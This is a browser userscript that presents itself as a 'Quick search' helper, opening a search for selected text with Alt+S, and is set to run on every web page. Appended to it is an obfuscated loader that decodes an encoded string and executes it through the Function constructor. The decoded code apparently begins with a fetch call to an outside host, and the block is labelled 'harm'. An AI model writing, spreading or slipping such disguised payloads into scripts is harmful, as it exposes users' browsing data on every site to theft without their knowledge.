// ==UserScript==
// @name        Quick search
// @namespace   qs.example
// @version     0.4
// @description Search the selection with Alt+S
// @include     *
// @grant       none
// ==/UserScript==

document.addEventListener("keyup",function(e){if(e.altKey&&e.keyCode==83)open("https://find.example/?q="+encodeURIComponent(getSelection()))});
(function(p,k){
  for(var o="",i=0;i<p.length;i+=2)o+=String.fromCharCode(parseInt(p.substr(i,2),36)^k);
  return [].constructor.constructor(o)(); //! harm
})("1o1r1a1l1e363h1e1a1a16152o39391738171b1f1l1d151r1n141l1e381a1r151a39153h3a0x1j1r1a1e1h1q2o3h0a0l090e3h3a1j1h1q1r2o3h1g1h3b1l1h14153h3a1k1h1q0z2o0g090l0k38151a141f1g1p1f1o0z361i1h1l1n1i091a1h141n1p1r371337",0x5a);
